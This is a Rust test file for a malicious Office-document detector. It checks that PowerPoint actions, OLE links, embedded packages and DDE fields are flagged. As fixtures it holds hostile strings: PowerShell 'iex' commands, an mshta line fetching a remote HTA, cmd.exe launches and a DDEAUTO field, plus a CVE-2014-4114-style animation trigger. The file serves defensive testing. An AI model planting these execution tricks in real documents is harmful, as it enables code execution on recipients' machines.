//! PresentationML, and actions in drawings of other documents.

use ddetect::{Carrier, Confidence, Format, Kind, Trigger, Verdict};

use super::support::docx::{begin, docx, end, instruction, paragraph};
use super::support::package::{R, rels};
use super::support::slides::{frame, pptx, pptx_of, program, shape, slide, timing};
use super::support::xlsx::Workbook;
use super::support::{analyze, techniques};
use super::{image, only, target};

const PROGRAM: &str = "powershell%20-NoP%20-c%20iex";

/// `spec/excel.md` §8.4 #1.
#[test]
fn the_pointer_over_a_text_runs_a_program() {
    let action = "<a:hlinkMouseOver r:id=\"r2\" action=\"ppaction://program\"/>";
    let document = pptx(
        &slide(&shape("", action), ""),
        &[("r2", "hyperlink", PROGRAM, true)],
    );
    let report = analyze(&document.build());
    assert_eq!(report.document().format, Format::Pptx);
    assert_eq!(report.verdict(), Verdict::Malicious);
    assert!(report.complete(), "{:?}", report.gaps());
    let finding = only(&report);
    assert_eq!(
        (finding.kind, finding.carrier, finding.trigger),
        (Kind::Execute, Carrier::Action, Trigger::Click)
    );
    assert_eq!(image(finding), "powershell.exe");
    assert_eq!(target(finding), "powershell -NoP -c iex");
    assert!(finding.raw.ends_with(PROGRAM), "{}", finding.raw);
    // `-NoP` and `iex` are short for `-NoProfile` and `Invoke-Expression`.
    assert_eq!(techniques(finding), ["hover", "short-parameter", "alias"]);
    let way: Vec<&str> = finding.location.path().collect();
    assert_eq!(way, ["ppt/slides/slide1.xml"]);
}

/// `spec/excel.md` §8.4 #2.
#[test]
fn a_linked_object_elsewhere() {
    let object = frame("<p:oleObj r:id=\"r2\" progId=\"Word.Document.8\"><p:link/></p:oleObj>");
    let link = [("r2", "oleObject", "http://x/a.doc", true)];
    let report = analyze(&pptx(&slide(&object, ""), &link).build());
    let finding = only(&report);
    assert_eq!(
        (finding.kind, finding.carrier, finding.trigger),
        (Kind::ExternalLink, Carrier::OleLink, Trigger::Update)
    );
    assert_eq!(target(finding), "http://x/a.doc");
    assert_eq!(report.verdict(), Verdict::Suspicious);

    let automatic = object.replace("<p:link/>", "<p:link updateAutomatic=\"1\"/>");
    let report = analyze(&pptx(&slide(&automatic, ""), &link).build());
    assert_eq!(only(&report).trigger, Trigger::Open);
    // An animation that activates it, when nobody clicked.
    for (node, trigger) in [
        ("afterEffect", Trigger::Open),
        ("withEffect", Trigger::Open),
        ("clickEffect", Trigger::Update),
        ("interactiveSeq", Trigger::Update),
    ] {
        let report = analyze(&pptx(&slide(&object, &timing(node)), &link).build());
        assert_eq!(only(&report).trigger, trigger, "{node}");
    }
    let local = [("r2", "oleObject", "file:///C:\\data\\book.xlsx", true)];
    let report = analyze(&pptx(&slide(&object, ""), &local).build());
    assert_eq!(report.verdict(), Verdict::Clean);
}

#[test]
fn every_way_to_run_a_program() {
    let strict = |xml: String| {
        xml.replace(
            "http://schemas.openxmlformats.org/presentationml/2006/main",
            "http://purl.oclc.org/ooxml/presentationml/main",
        )
        .replace(
            "http://schemas.openxmlformats.org/drawingml/2006/main",
            "http://purl.oclc.org/ooxml/drawingml/main",
        )
        .replace(R, "http://purl.oclc.org/ooxml/officeDocument/relationships")
    };
    let branches = |xml: String| {
        xml.replace(
            "<p:sp>",
            "<mc:AlternateContent><mc:Choice Requires=\"zz\"><p:sp>",
        )
        .replace(
            "</p:sp>",
            "</p:sp></mc:Choice><mc:Fallback/></mc:AlternateContent>",
        )
    };
    let same = |xml: String| xml;
    type Spelling<'a> = (&'a str, &'a dyn Fn(String) -> String, &'a [&'a str]);
    let spellings: [Spelling<'_>; 5] = [
        ("ppaction://program", &same, &[]),
        ("PPACTION://PROGRAM", &same, &[]),
        ("ppaction://%70rogram", &same, &[]),
        ("ppaction://program", &strict, &["strict-namespace"]),
        ("ppaction://program", &branches, &["markup-alternative"]),
    ];
    for (action, change, odd) in spellings {
        for (element, in_text) in [
            ("hlinkClick", false),
            ("hlinkHover", false),
            ("hlinkClick", true),
            ("hlinkMouseOver", true),
        ] {
            let xml = format!("<a:{element} r:id=\"r2\" action=\"{action}\"/>");
            let shape = if in_text {
                shape("", &xml)
            } else {
                shape(&xml, "")
            };
            let program = [("r2", "hyperlink", "cmd.exe%20/c%20calc", true)];
            let report = analyze(&pptx(&change(slide(&shape, "")), &program).build());
            assert_eq!(report.verdict(), Verdict::Malicious, "{xml}");
            let finding = only(&report);
            assert_eq!((finding.kind, image(finding)), (Kind::Execute, "cmd.exe"));
            let mut expected = odd.to_vec();
            if element != "hlinkClick" {
                expected.push("hover");
            }
            expected.sort_unstable();
            assert_eq!(techniques(finding), expected, "{xml}");
        }
    }
}

#[test]
fn every_kind_of_presentation() {
    for kind in [
        "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml",
        "application/vnd.openxmlformats-officedocument.presentationml.template.main+xml",
        "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml",
        "application/vnd.ms-powerpoint.addin.macroEnabled.main+xml",
    ] {
        let action = "<a:hlinkClick r:id=\"r2\" action=\"ppaction://program\"/>";
        let program = [("r2", "hyperlink", PROGRAM, true)];
        let report = analyze(&pptx_of(kind, &slide(&shape(action, ""), ""), &program).build());
        assert_eq!(report.document().format, Format::Pptx, "{kind}");
        assert_eq!(report.verdict(), Verdict::Malicious, "{kind}");
    }
}

#[test]
fn what_presentations_have_is_clean() {
    for (action, relation, address, external) in [
        ("ppaction://hlinksldjump", "slide", "slide2.xml", false),
        ("ppaction://hlinkfile", "hyperlink", "report.docx", true),
        (
            "ppaction://hlinkfile",
            "hyperlink",
            "file:///C:\\data\\Plan%20B.xlsx",
            true,
        ),
        (
            "ppaction://hlinkpres?slideindex=1&amp;slidetitle=x",
            "hyperlink",
            "other.pptx",
            true,
        ),
        (
            "ppaction://program",
            "hyperlink",
            "file:///C:\\films\\tour.avi",
            true,
        ),
        (
            "ppaction://program",
            "hyperlink",
            "file:///C:\\My%20Documents\\Sales%20Report.doc",
            true,
        ),
        ("ppaction://program", "hyperlink", "handout.pdf", true),
        ("", "hyperlink", "https://example.com/", true),
    ] {
        let xml = format!("<a:hlinkClick r:id=\"r2\" action=\"{action}\"/>");
        let links = [("r2", relation, address, external)];
        let report = analyze(&pptx(&slide(&shape(&xml, ""), ""), &links).build());
        assert_eq!(report.verdict(), Verdict::Clean, "{action} {report:#?}");
        assert!(report.complete(), "{:?}", report.gaps());
        assert_eq!(report.findings().len(), usize::from(external), "{action}");
    }
    for action in [
        "ppaction://noaction",
        "ppaction://media",
        "ppaction://hlinkshowjump?jump=nextslide",
        "ppaction://customshow?id=0&amp;return=true",
        // Nothing says where it leads.
        "ppaction://program",
        "ppaction://hlinkfile",
    ] {
        let xml = format!("<a:hlinkClick r:id=\"\" action=\"{action}\"/>");
        let report = analyze(&pptx(&slide(&shape(&xml, ""), ""), &[]).build());
        assert_eq!(report.verdict(), Verdict::Clean, "{action}");
        assert!(report.findings().is_empty(), "{action} {report:#?}");
    }
}

#[test]
fn macros_and_verbs_are_information() {
    let click = |action: &str| format!("<a:hlinkClick r:id=\"\" action=\"{action}\"/>");
    let by_macro = shape(&click("ppaction://macro?name=Go"), "");
    let report = analyze(&pptx(&slide(&by_macro, ""), &[]).build());
    let finding = only(&report);
    assert_eq!(
        (finding.carrier, target(finding)),
        (Carrier::MacroButton, "Go")
    );
    assert_eq!(report.verdict(), Verdict::Clean);

    let object = frame("<p:oleObj r:id=\"r2\" progId=\"Package\"><p:embed/></p:oleObj>");
    let with_verb = object.replace(
        "name=\"Object 3\"/>",
        &format!(
            "name=\"Object 3\">{}</p:cNvPr>",
            click("ppaction://ole?verb=1")
        ),
    );
    let held = [("r2", "oleObject", "../embeddings/o.bin", false)];
    for (shapes, after, trigger) in [
        (&with_verb, String::new(), Trigger::Click),
        (&object, timing("clickEffect"), Trigger::Click),
        (&object, timing("withEffect"), Trigger::Open),
    ] {
        let document = pptx(&slide(shapes, &after), &held).part("ppt/embeddings/o.bin", "state");
        let report = analyze(&document.build());
        let finding = only(&report);
        assert_eq!(
            (finding.carrier, finding.trigger),
            (Carrier::Action, trigger)
        );
        assert_eq!(target(finding), "../embeddings/o.bin");
        assert!(finding.score < 50, "{finding:#?}");
    }
}

/// The shape of CVE-2014-4114: showing the slide is enough.
#[test]
fn an_animation_starts_an_embedded_program() {
    let object = frame("<p:oleObj r:id=\"r2\" progId=\"Package\"><p:embed/></p:oleObj>");
    let held = [("r2", "oleObject", "../embeddings/o.bin", false)];
    for (after, verdict) in [
        (String::new(), Verdict::Suspicious),
        (timing("clickEffect"), Verdict::Suspicious),
        (timing("withEffect"), Verdict::Malicious),
    ] {
        let document = pptx(&slide(&object, &after), &held);
        let document = document.part("ppt/embeddings/o.bin", program("slides.vbs"));
        let report = analyze(&document.build());
        assert_eq!(report.verdict(), verdict, "{after}");
        let found = report
            .findings()
            .iter()
            .find(|f| f.kind == Kind::Execute)
            .unwrap();
        let activated = techniques(found).contains(&"activated");
        assert_eq!(activated, verdict == Verdict::Malicious);
    }
}

#[test]
fn programs_that_are_no_names_of_the_list() {
    for (address, verdict) in [
        ("C:\\Users\\Public\\update.exe", Verdict::Suspicious),
        ("update", Verdict::Suspicious),
        ("calc.exe", Verdict::Suspicious),
        ("file:///C:\\Windows\\System32\\cmd.exe", Verdict::Malicious),
        ("mshta%20http://x.example/a.hta", Verdict::Malicious),
        ("\\\\h.example\\s\\report.docx", Verdict::Suspicious),
        ("cmd%20/c%20start%20report.docx", Verdict::Malicious),
        // Encoded twice.
        ("powershell%2520-NoP%2520-c%2520iex", Verdict::Malicious),
    ] {
        let action = "<a:hlinkClick r:id=\"r2\" action=\"ppaction://program\"/>";
        let program = [("r2", "hyperlink", address, true)];
        let report = analyze(&pptx(&slide(&shape(action, ""), ""), &program).build());
        assert_eq!(report.verdict(), verdict, "{address} {report:#?}");
        assert_eq!(only(&report).kind, Kind::Execute);
    }
    // A relationship that forgets to say that it leads out.
    let action = "<a:hlinkClick r:id=\"r2\" action=\"ppaction://program\"/>";
    let program = [("r2", "hyperlink", "cmd.exe", false)];
    let report = analyze(&pptx(&slide(&shape(action, ""), ""), &program).build());
    let finding = only(&report);
    assert_eq!(finding.confidence, Confidence::Medium);
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn embedded_documents_are_read() {
    let field = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"";
    let runs = [begin(), instruction(field), end()].concat();
    let payload = docx(&paragraph(&runs)).build();
    let book = Workbook::new()
        .dde("cmd", "/c calc", &["x"])
        .formula("A1", "[1]!x")
        .build();
    let object = frame("<p:oleObj r:id=\"r2\" progId=\"Package\"><p:embed/></p:oleObj>");
    for (bytes, last) in [
        (payload, "word/document.xml"),
        (book, "xl/externalLinks/externalLink1.xml"),
    ] {
        let held = [("r2", "package", "../embeddings/o.bin", false)];
        let document = pptx(&slide(&object, ""), &held).part("ppt/embeddings/o.bin", bytes);
        let report = analyze(&document.build());
        assert_eq!(report.verdict(), Verdict::Malicious);
        let way: Vec<&str> = only(&report).location.path().collect();
        assert_eq!(way, ["ppt/embeddings/o.bin", last]);
    }
}

/// Drawings of documents and workbooks have actions, too.
#[test]
fn actions_in_other_documents() {
    let a = "http://schemas.openxmlformats.org/drawingml/2006/main";
    let click = format!(
        "<a:hlinkClick xmlns:a=\"{a}\" xmlns:r=\"{R}\" r:id=\"r9\" action=\"ppaction://program\"/>"
    );
    let program = rels(&[("r9", "hyperlink", PROGRAM, true)]);
    let picture = format!(
        "<w:p><w:r><w:drawing><wp:inline xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/\
         2006/wordprocessingDrawing\"><wp:docPr id=\"1\" name=\"x\">{click}</wp:docPr></wp:inline>\
         </w:drawing></w:r></w:p>"
    );
    let document = docx(&picture).part("word/_rels/document.xml.rels", program.clone());
    let report = analyze(&document.build());
    assert_eq!(report.verdict(), Verdict::Malicious);
    assert_eq!(only(&report).carrier, Carrier::Action);

    let drawing = format!(
        "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/\
         spreadsheetDrawing\"><xdr:cNvPr id=\"1\" name=\"x\">{click}</xdr:cNvPr></xdr:wsDr>"
    );
    let book = Workbook::new().package();
    let book = book
        .part("xl/drawings/drawing1.xml", drawing)
        .part("xl/drawings/_rels/drawing1.xml.rels", program);
    let report = analyze(&book.build());
    assert_eq!(report.verdict(), Verdict::Malicious);
    assert_eq!(only(&report).carrier, Carrier::Action);
}

#[test]
fn broken_markup_hides_nothing() {
    let action = "<a:hlinkClick r:id=\"r2\" action=\"ppaction://program\"/>";
    let program = [("r2", "hyperlink", PROGRAM, true)];
    let whole = slide(&shape(action, ""), "");
    let cut = whole.split("</p:spTree>").next().unwrap().to_owned();
    let crossed = whole.replace("<p:spTree>", "<p:spTree><p:x></p:y><q \"<\">");
    for (xml, complete) in [(cut, false), (crossed, true)] {
        let report = analyze(&pptx(&xml, &program).build());
        assert_eq!(report.verdict(), Verdict::Malicious, "{xml}");
        assert_eq!(report.complete(), complete, "{:?}", report.gaps());
        assert_eq!(report.findings().len(), 1);
    }
}
